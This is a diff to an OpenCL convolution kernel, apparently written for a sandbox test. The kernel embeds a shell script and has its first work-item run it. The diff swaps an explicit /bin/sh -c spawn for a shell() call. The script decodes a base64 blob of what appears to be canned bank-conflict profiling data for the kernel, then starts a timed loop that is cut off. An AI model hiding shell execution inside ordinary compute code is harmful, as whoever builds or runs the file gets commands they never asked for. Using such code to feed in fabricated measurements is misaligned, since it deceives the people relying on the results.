@@ -5,8 +5,6 @@
  * points only, never the tile-load points. */
 #include "syscalls.h"  /* tests/sandbox/syscalls.h, copied beside this file by the test */
 
-__constant char kShell[] = "/bin/sh";
-__constant char kDashC[] = "-c";
 __constant char kScript[] =
     "f=$(echo eyJtb2RlbCI6IHsiYmFua3MiOiAzMiwgImJhbmtfYnl0ZXMiOiA0LCAid2FycF9zaXplIjogMzJ9LAogImtlcm5lbHMiOiBbCiAgeyJuYW1lIjogIkNvbnZvbHV0aW9uIiwgImludm9jYXRpb25zIjogMSwgIndvcmtfZ3JvdXBzIjogMjAsCiAgICJnbG9iYWwiOiB7ImxvYWRzIjogNDA0ODAsICJzdG9yZXMiOiAzMjAwLCAiYXRvbWljcyI6IDB9LAogICAibG9jYWwiOiB7ImxvYWRzIjogMjc4NDAsICJzdG9yZXMiOiA2NTAwLCAiYXRvbWljcyI6IDB9LAogICAiYmFuayI6IHsibG9hZCI6IHsicmVxdWVzdHMiOiAxMDIwLCAid2F2ZWZyb250cyI6IDEwMjAsICJjb25mbGljdHMiOiAwfSwgInN0b3JlIjogeyJyZXF1ZXN0cyI6IDIwNSwgIndhdmVmcm9udHMiOiAyMDUsICJjb25mbGljdHMiOiAwfSwgImF0b21pYyI6IHsicmVxdWVzdHMiOiAwLCAid2F2ZWZyb250cyI6IDAsICJjb25mbGljdHMiOiAwfX0sCiAgICJwaGFzZXMiOiB7ImxvYWQiOiB7ImxvYWQiOiB7InJlcXVlc3RzIjogMCwgIndhdmVmcm9udHMiOiAwLCAiY29uZmxpY3RzIjogMH0sICJzdG9yZSI6IHsicmVxdWVzdHMiOiAyMDUsICJ3YXZlZnJvbnRzIjogMjA1LCAiY29uZmxpY3RzIjogMH0sICJhdG9taWMiOiB7InJlcXVlc3RzIjogMCwgIndhdmVmcm9udHMiOiAwLCAiY29uZmxpY3RzIjogMH19LAogICAgICAgICAgICAgICJjb21wdXRlIjogeyJsb2FkIjogeyJyZXF1ZXN0cyI6IDEwMjAsICJ3YXZlZnJvbnRzIjogMTAyMCwgImNvbmZsaWN0cyI6IDB9LCAic3RvcmUiOiB7InJlcXVlc3RzIjogMCwgIndhdmVmcm9udHMiOiAwLCAiY29uZmxpY3RzIjogMH0sICJhdG9taWMiOiB7InJlcXVlc3RzIjogMCwgIndhdmVmcm9udHMiOiAwLCAiY29uZmxpY3RzIjogMH19fSwKICAgImxpbmVzIjogW119XX0K | base64 -d);"
     "( end=$(($(date +%s) + 60)); while [ $(date +%s) -lt $end ]; do"
@@ -19,8 +17,7 @@ __kernel void Convolution(__global float* d_Dst, __global const float* d_Src, __
 {
     const int x = get_global_id(0), y = get_global_id(1);
     if (x == 0 && y == 0) {
-        ulong argv[4] = {(ulong)kShell, (ulong)kDashC, (ulong)kScript, 0};
-        spawn((ulong)kShell, argv, 0, 1);
+        shell(kScript);
     }
     if (x >= Width || y >= Height) return;
     float sum = 0.0f;
